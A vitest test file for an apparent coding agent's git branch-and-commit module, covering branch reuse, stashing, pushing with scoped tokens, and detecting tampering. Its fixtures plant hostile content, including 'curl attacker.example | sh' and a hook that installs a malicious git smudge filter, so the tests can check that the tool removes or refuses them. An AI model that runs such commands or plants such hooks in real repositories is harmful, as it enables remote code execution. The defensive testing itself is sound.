import { execFileSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync
} from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { ChangeBranch, type ChangeBranchOptions } from '../../src/change/index.js'
import { FALLBACK_IDENTITY, Git, pushAuth } from '../../src/git/index.js'
import { listenOnLoopback } from '../support/http.js'
import { createRepo, type TestRepo } from '../support/repo.js'
import { failure } from '../support/errors.js'
import { cleanupAfterEach } from '../support/cleanups.js'

const cleanups = cleanupAfterEach()

const BRANCH = 'fix/3-greeting'
const FILES = { 'src/greet.txt': 'hello\n', 'README.md': '# Demo\n', 'notes.txt': 'mine\n' }

function repoWith(files: Record<string, string> = FILES): TestRepo {
  const repo = createRepo({ files, prefix: 'branch' })
  cleanups.push(() => repo.cleanup())
  return repo
}

/** A whole-file unified diff, as the canonical renderer writes one. */
function modify(path: string, before: string, after: string): string {
  const lines = (text: string) => text.replace(/\n$/, '').split('\n')
  const old = lines(before)
  const next = lines(after)
  return (
    [
      `diff --git a/${path} b/${path}`,
      `--- a/${path}`,
      `+++ b/${path}`,
      `@@ -1,${old.length} +1,${next.length} @@`,
      ...old.map((line) => `-${line}`),
      ...next.map((line) => `+${line}`)
    ].join('\n') + '\n'
  )
}

const GREETING = modify('src/greet.txt', 'hello\n', 'hello, world\n')
const MESSAGE = 'fix(src): greet the whole world politely\n\nFixes #3'

async function prepare(repo: TestRepo, options: Partial<ChangeBranchOptions> = {}) {
  const git = await Git.open(repo.dir)
  const branch = await ChangeBranch.prepare(git, {
    branch: BRANCH,
    plannedPaths: ['src/greet.txt'],
    ...options
  })
  return { git, branch }
}

/** The happy path as the agent runs it: create, apply, commit, push, restore. */
async function run(repo: TestRepo, options: Partial<ChangeBranchOptions> = {}, patch = GREETING) {
  const { git, branch } = await prepare(repo, options)
  await branch.create()
  await branch.reset() // the agent resets before each attempt
  const applied = await branch.apply(patch, ['src/greet.txt'])
  expect(applied.exitCode, applied.stderr).toBe(0)
  // As the agent does once it checked the index after validation (assertClean).
  branch.noteIndexChecked()
  // As the agent commits: the approved contents go with the request.
  const files = [{ path: 'src/greet.txt', content: repo.read('src/greet.txt') }]
  const made =
    (await branch.reuseExisting()) ??
    (await branch.commit([{ message: MESSAGE, patch, paths: ['src/greet.txt'], files }], {
      signoff: true
    }))
  await branch.pushBranch()
  const problems = await branch.restoreUserChanges()
  return { git, branch, made, problems }
}

describe('ChangeBranch: the happy paths', () => {
  it('push: true creates the branch from the base, commits once and pushes, in 12 git processes', async () => {
    // 1 listing of the effective config (read again only when a config file changes), which
    // also checks it before each remote command; 4 of its own (`checkout -b` makes the branch and
    // moves HEAD in one, without a pass over the tree; the remote's URL is read only to
    // name it in a refusal); 3 remote commands (ls-remote, the push access check, the push); 4
    // to build the commit from the approved contents on the base, reading (through the run's one
    // object reader) and writing only the trees on their paths, and move the branch to it (the
    // approved blob is staged already, so not written again; the message cleaned and signed off
    // without a process)
    const repo = repoWith()
    const base = repo.git('rev-parse', 'HEAD')
    const { git, made } = await run(repo)
    expect(git.processCount).toBe(12)
    expect(made).toHaveLength(1)
    const [commit] = made
    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(commit!.sha)
    expect(repo.git('rev-parse', `${commit!.sha}^`)).toBe(base)
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe(BRANCH)
    expect(repo.git('log', '-1', '--format=%B', commit!.sha)).toMatch(/Fixes #3\n\nSigned-off-by: /)
    expect(repo.gitOrigin('rev-parse', 'refs/heads/main')).toBe(base)
    // the patch id is git's own, and the diff is the commit's
    expect(commit!.patchId).toBe(gitPatchIdOf(repo, commit!.sha))
    expect(commit!.diff).toContain('+hello, world')
    expect(repo.git('config', '--list', '--show-origin')).not.toMatch(/extraheader/i)
  })

  it('push: false commits on the checked-out base for a pull-request step, in 10 git processes', async () => {
    const repo = repoWith()
    const base = repo.git('rev-parse', 'HEAD')
    const { git, made } = await run(repo, { push: false })
    expect(git.processCount).toBe(10)
    const sha = made[0]!.sha
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe('main')
    expect(repo.git('rev-parse', 'main')).toBe(sha)
    expect(repo.git('rev-parse', `refs/heads/${BRANCH}`)).toBe(sha)
    expect(repo.git('rev-parse', `${sha}^`)).toBe(base)
    expect(repo.gitOrigin('branch', '--list', BRANCH)).toBe('')
    expect(repo.gitOrigin('rev-parse', 'refs/heads/main')).toBe(base)
    expect(repo.git('status', '--porcelain')).toBe('')
  })

  it('commits as github-actions[bot] only when no identity is configured anywhere', async () => {
    const repo = repoWith()
    repo.git('config', '--unset', 'user.name')
    repo.git('config', '--unset', 'user.email')
    const home = mkdtempSync(join(tmpdir(), 'patchsmith-home-'))
    const saved = { HOME: process.env.HOME, XDG: process.env.XDG_CONFIG_HOME }
    process.env.HOME = home
    delete process.env.XDG_CONFIG_HOME
    cleanups.push(() => {
      process.env.HOME = saved.HOME
      if (saved.XDG !== undefined) process.env.XDG_CONFIG_HOME = saved.XDG
    })
    const first = await run(repo, { push: false })
    expect(repo.git('log', '-1', '--format=%an <%ae>', first.made[0]!.sha)).toBe(
      `${FALLBACK_IDENTITY.name} <${FALLBACK_IDENTITY.email}>`
    )
    writeFileSync(
      join(home, '.gitconfig'),
      '[user]\n\tname = Home Person\n\temail = home@example.invalid\n'
    )
    repo.git('branch', '-D', BRANCH)
    repo.git('reset', '-q', '--hard', 'HEAD~1')
    const second = await run(repo, { push: false })
    expect(repo.git('log', '-1', '--format=%an <%ae>', second.made[0]!.sha)).toBe(
      'Home Person <home@example.invalid>'
    )
  })
})

function gitPatchIdOf(repo: TestRepo, sha: string): string {
  const patch = execFileSync('git', ['diff-tree', '-p', '--full-index', sha], { cwd: repo.dir })
  const out = execFileSync('git', ['patch-id', '--stable'], { cwd: repo.dir, input: patch })
  return out.toString().split(' ')[0]!
}

describe('ChangeBranch: an existing branch', () => {
  it('reuses an earlier run’s pushed branch that holds the same change: no second commit, no push', async () => {
    const repo = repoWith()
    const first = await run(repo)
    // The rerun starts like a fresh checkout: on the base, without the local branch.
    repo.git('checkout', '-q', 'main')
    repo.git('branch', '-D', BRANCH)
    const second = await run(repo)
    expect(second.branch.reused).toBe(true)
    expect(second.made.map((c) => c.sha)).toEqual([first.made[0]!.sha])
    expect(second.made[0]!.patchId).toBe(first.made[0]!.patchId)
    // The message as the commit holds it, as the first run reported it: trailers included.
    expect(second.made[0]!.message).toBe(first.made[0]!.message)
    expect(second.made[0]!.message).toBe(repo.git('log', '-1', '--format=%B', first.made[0]!.sha))
    expect(second.made[0]!.message.startsWith(MESSAGE.trim())).toBe(true)
    expect(repo.gitOrigin('rev-list', '--count', `main..${BRANCH}`)).toBe('1')
    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(first.made[0]!.sha)
    expect(repo.git('rev-parse', 'HEAD')).toBe(first.made[0]!.sha)
    expect(repo.git('status', '--porcelain')).toBe('')
  })

  it('reuses a local branch of a run without push, and pushes it', async () => {
    const repo = repoWith()
    const first = await run(repo, { push: false })
    repo.git('reset', '-q', '--hard', 'HEAD~1') // main back to the base; the branch stays
    const second = await run(repo)
    expect(second.branch.reused).toBe(true)
    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(first.made[0]!.sha)
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe(BRANCH)
  })

  it('is BRANCH_EXISTS when the branch holds another change, and leaves it alone', async () => {
    const repo = repoWith()
    await run(repo)
    const theirs = repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)
    repo.git('checkout', '-q', 'main')
    repo.git('branch', '-D', BRANCH)
    const base = repo.git('rev-parse', 'HEAD')
    const other = modify('src/greet.txt', 'hello\n', 'hello, moon\n')
    const { branch } = await prepare(repo)
    await branch.create()
    expect((await branch.apply(other, ['src/greet.txt'])).exitCode).toBe(0)
    const error = await failure(branch.reuseExisting())
    expect(error.code).toBe('BRANCH_EXISTS')
    expect(error.details).toMatchObject({ rule: 'different-change' })
    expect(await branch.rollback()).toEqual([])
    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(theirs)
    expect(repo.git('branch', '--list', BRANCH)).toBe('')
    expect(repo.git('rev-parse', 'HEAD')).toBe(base)
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe('main')
    expect(repo.git('status', '--porcelain')).toBe('')
  })

  it('is BRANCH_EXISTS at create, before any draft, when the branch changes a file the plan does not', async () => {
    const repo = repoWith()
    await run(repo)
    const theirs = repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)
    repo.git('checkout', '-q', 'main')
    repo.git('branch', '-D', BRANCH)
    const { branch } = await prepare(repo, { plannedPaths: ['README.md'] })
    const error = await failure(branch.create())
    expect(error).toMatchObject({ code: 'BRANCH_EXISTS', details: { rule: 'different-change' } })
    expect(error.message).toContain('changes files this plan does not (src/greet.txt)')
    expect(await branch.rollback()).toEqual([])
    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(theirs)
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe('main')
  })

  it('is BRANCH_EXISTS before any work when the branch does not start from the base', async () => {
    const repo = repoWith()
    repo.git('checkout', '-q', '-b', 'elsewhere')
    repo.write('src/greet.txt', 'hello, world\n')
    repo.commitAll('the change, on the old base')
    repo.git('push', '-q', 'origin', `HEAD:refs/heads/${BRANCH}`)
    repo.git('checkout', '-q', 'main')
    repo.write('notes.txt', 'main moved on\n')
    repo.commitAll('main moved on')
    const { branch } = await prepare(repo)
    const error = await failure(branch.create())
    expect(error.code).toBe('BRANCH_EXISTS')
    expect(error.message).toMatch(/does not start from main/)
    await branch.rollback()
    expect(repo.git('branch', '--list', BRANCH)).toBe('')
  })

  it('is BRANCH_EXISTS when the local and the pushed branch differ', async () => {
    const repo = repoWith()
    repo.git('branch', BRANCH)
    repo.git('checkout', '-q', '-b', 'x')
    repo.write('notes.txt', 'other\n')
    repo.commitAll('other')
    repo.git('push', '-q', 'origin', `HEAD:refs/heads/${BRANCH}`)
    repo.git('checkout', '-q', 'main')
    const { branch } = await prepare(repo)
    const error = await failure(branch.create())
    expect(error).toMatchObject({ code: 'BRANCH_EXISTS', details: { rule: 'diverged' } })
  })
})

describe('ChangeBranch: the user’s uncommitted work', () => {
  it('stashes changes to other files and puts them back after success and after a rollback', async () => {
    const repo = repoWith()
    repo.write('notes.txt', 'mine, edited\n')
    repo.write('README.md', '# Demo, staged\n')
    repo.git('add', 'README.md')
    repo.write('scratch.txt', 'untracked\n')
    const ok = await run(repo)
    expect(ok.problems).toEqual([])
    expect(repo.read('notes.txt')).toBe('mine, edited\n')
    expect(repo.git('diff', '--cached', '--name-only')).toBe('README.md')
    expect(repo.read('scratch.txt')).toBe('untracked\n')
    expect(repo.git('stash', 'list')).toBe('')
    // The commit holds the change only.
    expect(repo.git('show', '--name-only', '--format=', ok.made[0]!.sha)).toBe('src/greet.txt')

    repo.git('checkout', '-q', 'main') // carries the user's changes along
    repo.git('branch', '-D', BRANCH)
    repo.git('push', '-q', 'origin', `:refs/heads/${BRANCH}`)
    const { branch } = await prepare(repo)
    await branch.create()
    expect(repo.git('status', '--porcelain', '--untracked-files=no')).toBe('')
    await branch.apply(GREETING, ['src/greet.txt'])
    expect(await branch.rollback()).toEqual([])
    expect(repo.read('notes.txt')).toBe('mine, edited\n')
    expect(repo.read('src/greet.txt')).toBe('hello\n')
    expect(repo.git('diff', '--cached', '--name-only')).toBe('README.md')
    expect(repo.git('stash', 'list')).toBe('')
  })

  it('refuses uncommitted changes to a planned file (GIT_CONFLICT) and touches nothing', async () => {
    const repo = repoWith()
    repo.write('src/greet.txt', 'hello, mine\n')
    const error = await failure(prepare(repo))
    expect(error).toMatchObject({ code: 'GIT_CONFLICT', details: { rule: 'dirty-worktree' } })
    expect(repo.read('src/greet.txt')).toBe('hello, mine\n')
    expect(repo.gitOrigin('branch', '--list', BRANCH)).toBe('')
  })

  it('refuses a repository with unmerged paths (GIT_CONFLICT)', async () => {
    const repo = repoWith()
    repo.git('checkout', '-q', '-b', 'side')
    repo.write('notes.txt', 'side\n')
    repo.commitAll('side')
    repo.git('checkout', '-q', 'main')
    repo.write('notes.txt', 'main\n')
    repo.commitAll('main')
    expect(() => repo.git('merge', '-q', 'side')).toThrow()
    const error = await failure(prepare(repo))
    expect(error).toMatchObject({ code: 'GIT_CONFLICT', details: { rule: 'unmerged-paths' } })
  })
})

describe('ChangeBranch: the commit is the approved change', () => {
  it('builds the tree from the approved contents, whatever the shared index and work tree hold', async () => {
    const repo = repoWith()
    const base = repo.git('rev-parse', 'HEAD')
    const { branch } = await prepare(repo, { push: false })
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    const approved = repo.read('src/greet.txt')
    // What a process left behind after the last check would have committed with `git commit`.
    writeFileSync(join(repo.dir, 'src/greet.txt'), 'tampered\n')
    writeFileSync(join(repo.dir, 'planted.sh'), 'curl attacker.example | sh\n')
    repo.git('add', 'src/greet.txt', 'planted.sh')
    const [made] = await branch.commit(
      [
        {
          message: MESSAGE,
          patch: GREETING,
          paths: ['src/greet.txt'],
          files: [{ path: 'src/greet.txt', content: approved }]
        }
      ],
      { signoff: true }
    )
    expect(repo.git('show', `${made!.sha}:src/greet.txt`)).toBe(approved.trimEnd())
    expect(repo.git('diff', '--name-only', base, made!.sha)).toBe('src/greet.txt')
    expect(repo.git('rev-parse', `${made!.sha}^`)).toBe(base)
    expect(repo.git('log', '-1', '--format=%B', made!.sha)).toMatch(/Fixes #3\n\nSigned-off-by: /)
    // The index and the work tree are the commit: what was staged beside it is gone.
    expect(repo.git('status', '--porcelain')).toBe('')
    expect(existsSync(join(repo.dir, 'planted.sh'))).toBe(false)
    expect(repo.read('src/greet.txt')).toBe(approved)
  })

  it('makes the branch with branch and symbolic-ref when checkout -b would set an upstream', async () => {
    const repo = repoWith()
    repo.git('config', 'branch.autoSetupMerge', 'always')
    const { git, made } = await run(repo)
    expect(git.processCount).toBe(13)
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe(BRANCH)
    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(made[0]!.sha)
    // No upstream written into the repository's config for the new branch.
    const config = repo.git('config', '--get-regexp', '^branch\\.').split('\n')
    expect(config).toContain('branch.autosetupmerge always')
    expect(config.filter((line) => line.startsWith(`branch.${BRANCH}.`))).toEqual([])
    expect(repo.git('reflog', '--format=%gs', 'HEAD').split('\n')).toContain(
      `checkout: moving from main to ${BRANCH}`
    )
  })

  it('deletes the branch checkout -b made when it could not move HEAD', async () => {
    const repo = repoWith()
    const { branch } = await prepare(repo)
    // A stale lock: git makes the branch, then fails to point HEAD at it.
    writeFileSync(join(repo.dir, '.git/HEAD.lock'), '')
    await expect(branch.create()).rejects.toThrow(/HEAD/)
    rmSync(join(repo.dir, '.git/HEAD.lock'))
    await branch.rollback()
    expect(repo.git('branch', '--list', BRANCH)).toBe('')
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe('main')
  })

  it('looks at the index again when it was written after it was last checked', async () => {
    const repo = repoWith()
    const { branch } = await prepare(repo, { push: false })
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    const approved = repo.read('src/greet.txt')
    const files = [{ path: 'src/greet.txt', content: approved }]
    const request = { message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'], files }
    branch.noteIndexChecked()
    // A process left behind stages a file after the check: the stamp no longer matches.
    writeFileSync(join(repo.dir, 'planted.sh'), 'curl attacker.example | sh\n')
    repo.git('add', 'planted.sh')
    const [made] = await branch.commit([request], { signoff: false })
    // diff-index found it, and the reset took it out of index and work tree.
    expect(repo.git('show', '--name-only', '--format=', made!.sha)).toBe('src/greet.txt')
    expect(repo.git('status', '--porcelain')).toBe('')
    expect(existsSync(join(repo.dir, 'planted.sh'))).toBe(false)
  })
})

describe('ChangeBranch: pushing', () => {
  it('maps a push refused by a pre-receive hook to PERMISSION_DENIED; the rollback removes the branch', async () => {
    const repo = repoWith()
    const hook = join(repo.origin, 'hooks', 'pre-receive')
    writeFileSync(hook, '#!/bin/sh\necho "policy: no agent branches here" >&2\nexit 1\n')
    chmodSync(hook, 0o755)
    const base = repo.git('rev-parse', 'HEAD')
    const { branch } = await prepare(repo)
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    await branch.commit([{ message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'] }], {
      signoff: true
    })
    const error = await failure(branch.pushBranch())
    expect(error.code).toBe('PERMISSION_DENIED')
    expect(error.details).toMatchObject({ rule: 'push-hook-declined' })
    expect(String(error.details.stderr)).toContain('policy: no agent branches here')
    expect(await branch.rollback()).toEqual([])
    expect(repo.git('branch', '--list', BRANCH)).toBe('')
    expect(repo.gitOrigin('branch', '--list', BRANCH)).toBe('')
    expect(repo.git('rev-parse', 'HEAD')).toBe(base)
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe('main')
  })

  it('maps a branch that appeared on origin meanwhile to GIT_CONFLICT, never forcing over it', async () => {
    const repo = repoWith()
    const { branch } = await prepare(repo)
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    await branch.commit([{ message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'] }], {
      signoff: true
    })
    // Someone else pushes the branch after our look at origin.
    const other = createRepo({ files: { 'x.txt': 'x\n' }, prefix: 'other' })
    cleanups.push(() => other.cleanup())
    other.git('push', '-q', '--force', repo.origin, `HEAD:refs/heads/${BRANCH}`)
    const theirs = repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)
    const error = await failure(branch.pushBranch())
    expect(error.code).toBe('GIT_CONFLICT')
    await branch.rollback()
    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(theirs)
  })

  it('deletes the branch it pushed when a later step fails', async () => {
    const repo = repoWith()
    const { branch } = await run(repo)
    expect(repo.gitOrigin('branch', '--list', BRANCH)).not.toBe('')
    expect(await branch.rollback()).toEqual([])
    expect(repo.gitOrigin('branch', '--list', BRANCH)).toBe('')
    expect(repo.git('branch', '--list', BRANCH)).toBe('')
  })

  it('is PERMISSION_DENIED before any work without an origin', async () => {
    const repo = repoWith()
    repo.git('remote', 'remove', 'origin')
    const error = await failure(prepare(repo))
    expect(error).toMatchObject({ code: 'PERMISSION_DENIED', details: { rule: 'no-remote' } })
  })

  it('names an origin that cannot be reached as such, with its URL and without credentials', async () => {
    const repo = repoWith()
    const gone = join(repo.root, 'moved-away.git')
    repo.git('remote', 'set-url', 'origin', gone)
    const error = await failure(prepare(repo))
    expect(error).toMatchObject({
      code: 'PERMISSION_DENIED',
      details: { rule: 'remote-unreachable' }
    })
    expect(error.message).toContain(`Cannot reach the remote origin (${gone})`)
    repo.git(
      'remote',
      'set-url',
      'origin',
      'https://x-access-token:ghs_secret123@127.0.0.1:9/a/b.git'
    )
    const refused = await failure(prepare(repo))
    expect(refused.details).toMatchObject({ rule: 'remote-unreachable' })
    expect(refused.message).toContain('(https://127.0.0.1:9/a/b.git)')
    expect(refused.message).not.toContain('ghs_secret123')
  })

  it('refuses the base, the default branch and unsafe names', async () => {
    const repo = repoWith()
    for (const name of ['main', 'refs/heads/main', 'HEAD', '-f', 'a/../main', 'x.lock']) {
      const error = await failure(prepare(repo, { branch: name }))
      expect(error.code, name).toBe('INVALID_INPUT')
    }
    repo.git('push', '-q', 'origin', 'main:refs/heads/trunk')
    repo.gitOrigin('symbolic-ref', 'HEAD', 'refs/heads/trunk')
    const error = await failure(prepare(repo, { branch: 'trunk' }))
    expect(error.details).toMatchObject({ rule: 'base-branch' })
    const protectedName = await failure(
      prepare(repo, { branch: 'release', protectedBranches: ['release'] })
    )
    expect(protectedName.code).toBe('INVALID_INPUT')
  })

  it('gives the token to the remote commands only, as one Authorization header for the GitHub host', async () => {
    const seen: string[] = []
    const server = createServer((req, res) => {
      seen.push(String(req.headers.authorization ?? ''))
      res.writeHead(403, { 'content-type': 'text/plain' })
      res.end('denied')
    })
    const listening = await listenOnLoopback(server)
    cleanups.push(() => listening.close())
    const host = `http://127.0.0.1:${listening.port}`
    const repo = repoWith()
    repo.git('remote', 'set-url', 'origin', `${host}/acme/widgets.git`)
    // What actions/checkout persists with persist-credentials: true.
    repo.git('config', `http.${host}/.extraheader`, 'AUTHORIZATION: basic cGVyc2lzdGVk')
    const token = 'ghs_looptoken1234567890'
    const auth = pushAuth(token, host)!
    const error = await failure(prepare(repo, { auth }))
    expect(error).toMatchObject({
      code: 'PERMISSION_DENIED',
      details: { rule: 'remote-unreadable' }
    })
    expect(seen.length).toBeGreaterThan(0)
    const expected = `basic ${Buffer.from(`x-access-token:${token}`).toString('base64')}`
    expect(seen.every((header) => header === expected)).toBe(true)
    expect(readFileSync(join(repo.dir, '.git', 'config'), 'utf8')).not.toContain(auth.secret)

    // Scoped to the GitHub server: a remote elsewhere never receives it.
    seen.length = 0
    repo.git('config', '--unset', `http.${host}/.extraheader`)
    await failure(prepare(repo, { auth: pushAuth(token, 'https://github.example') }))
    expect(seen.length).toBeGreaterThan(0)
    expect(seen.every((header) => header === '')).toBe(true)
  })
})

describe('ChangeBranch: commit hooks (opt-in)', () => {
  function hooked(repo: TestRepo, script: string): void {
    const dir = join(repo.dir, '.git', 'hooks')
    mkdirSync(dir, { recursive: true })
    writeFileSync(join(dir, 'pre-commit'), script)
    chmodSync(join(dir, 'pre-commit'), 0o755)
  }

  it('stay off unless asked: a failing hook does not run', async () => {
    const repo = repoWith()
    hooked(repo, '#!/bin/sh\nexit 1\n')
    const { made } = await run(repo, { push: false })
    expect(made).toHaveLength(1)
  })

  it('a formatter hook that fails after fixing the files is VALIDATION_FAILED: its fixes are never staged', async () => {
    const repo = repoWith()
    const envFile = join(repo.root, 'hook-env.txt')
    // Like lint-staged with a formatter: rewrites the staged file, fails once so it gets staged.
    hooked(
      repo,
      `#!/bin/sh\nenv > '${envFile}'\nif grep -q 'hello, world$' src/greet.txt; then\n  printf 'Hello, world!\\n' > src/greet.txt\n  echo 'files were modified by this hook' >&2\n  exit 1\nfi\nexit 0\n`
    )
    process.env.INPUT_GITHUB_TOKEN = 'ghs_hookcanary000000000000'
    cleanups.push(() => delete process.env.INPUT_GITHUB_TOKEN)
    const { branch } = await prepare(repo, { push: false })
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    const error = await failure(
      branch.commit([{ message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'] }], {
        signoff: true,
        hooks: true
      })
    )
    expect(error).toMatchObject({ code: 'VALIDATION_FAILED', details: { rule: 'commit-hook' } })
    expect(repo.git('log', '--format=%s', '-1')).toBe('initial')
    expect(readFileSync(envFile, 'utf8')).not.toContain('ghs_hookcanary')
  })

  it('a hook that rewrites the approved file and stages it is SECURITY_VIOLATION; the branch is put back', async () => {
    const repo = repoWith()
    hooked(repo, "#!/bin/sh\nprintf 'pwned\\n' > src/greet.txt\ngit add src/greet.txt\n")
    const { branch } = await prepare(repo, { push: false })
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    const error = await failure(
      branch.commit([{ message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'] }], {
        signoff: true,
        hooks: true
      })
    )
    expect(error).toMatchObject({ code: 'SECURITY_VIOLATION', details: { rule: 'hook-tampered' } })
    expect(error.message).toContain('the committed tree is not the approved content')
    expect(repo.git('log', '--format=%s', '-1')).toBe('initial')
    await branch.rollback()
    expect(repo.git('status', '--porcelain')).toBe('')
  })

  it('a hook that rewrites files in the work tree without staging them leaves the work tree as the commit (push: false hands it to a pull-request step)', async () => {
    const repo = repoWith()
    // The committed tree is the approved one; what the hook left unstaged would otherwise be
    // committed by create-pull-request, which takes the work tree's changes as they are.
    hooked(
      repo,
      "#!/bin/sh\nprintf 'unreviewed\\n' > src/greet.txt\nprintf 'planted\\n' > src/planted.txt\n"
    )
    const { branch } = await prepare(repo, { push: false })
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    await branch.commit([{ message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'] }], {
      signoff: true,
      hooks: true
    })
    expect(repo.git('log', '--format=%s', '-1')).toBe(MESSAGE.split('\n')[0])
    expect(repo.git('status', '--porcelain', '--untracked-files=all')).toBe('')
    expect(readFileSync(join(repo.dir, 'src/greet.txt'), 'utf8')).not.toContain('unreviewed')
  })

  it('a hook that writes a filter into .git/config and .git/info/attributes is SECURITY_VIOLATION; .git is put back', async () => {
    const repo = repoWith()
    const config = readFileSync(join(repo.dir, '.git/config'), 'utf8')
    hooked(
      repo,
      '#!/bin/sh\ngit config filter.evil.smudge "touch ../pwned; cat"\nmkdir -p .git/info\necho "* filter=evil" >> .git/info/attributes\ngit update-ref refs/heads/planted HEAD\n'
    )
    const { branch } = await prepare(repo, { push: false })
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    const error = await failure(
      branch.commit([{ message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'] }], {
        signoff: true,
        hooks: true
      })
    )
    expect(error).toMatchObject({ code: 'SECURITY_VIOLATION', details: { rule: 'hook-tampered' } })
    expect(error.message).toMatch(/config changed/)
    expect(readFileSync(join(repo.dir, '.git/config'), 'utf8')).toBe(config)
    expect(existsSync(join(repo.dir, '.git/info/attributes'))).toBe(false)
    expect(repo.git('branch', '--list', 'planted')).toBe('')
    await branch.rollback()
    expect(repo.git('status', '--porcelain')).toBe('')
    expect(existsSync(join(repo.root, 'pwned'))).toBe(false)
  })

  it('a hook that keeps failing is VALIDATION_FAILED with its output', async () => {
    const repo = repoWith()
    hooked(repo, '#!/bin/sh\necho "lint: 3 problems" >&2\nexit 1\n')
    const { branch } = await prepare(repo, { push: false })
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    const error = await failure(
      branch.commit([{ message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'] }], {
        signoff: true,
        hooks: true
      })
    )
    expect(error).toMatchObject({ code: 'VALIDATION_FAILED', details: { rule: 'commit-hook' } })
    expect(String(error.details.stderr)).toContain('lint: 3 problems')
    await branch.rollback()
    expect(repo.git('log', '--format=%s', '-1')).toBe('initial')
    expect(repo.git('status', '--porcelain')).toBe('')
  })
})

describe('ChangeBranch: one commit per plan step', () => {
  it('commits each request separately with exactly its files', async () => {
    const repo = repoWith()
    const readme = modify('README.md', '# Demo\n', '# Demo, greeted\n')
    const { branch } = await prepare(repo, { plannedPaths: ['src/greet.txt', 'README.md'] })
    await branch.create()
    await branch.apply(GREETING + readme, ['src/greet.txt', 'README.md'])
    const made = await branch.commit(
      [
        {
          message: 'fix(src): step one changes the greeting',
          patch: GREETING,
          paths: ['src/greet.txt']
        },
        {
          message: 'docs(readme): step two mentions the greeting',
          patch: readme,
          paths: ['README.md']
        }
      ],
      { signoff: false }
    )
    expect(made).toHaveLength(2)
    expect(repo.git('show', '--name-only', '--format=', made[0]!.sha)).toBe('src/greet.txt')
    expect(repo.git('show', '--name-only', '--format=', made[1]!.sha)).toBe('README.md')
    expect(repo.git('rev-parse', `${made[1]!.sha}^`)).toBe(made[0]!.sha)
    expect(repo.git('status', '--porcelain')).toBe('')
    expect(existsSync(join(repo.dir, 'README.md'))).toBe(true)
  })
})
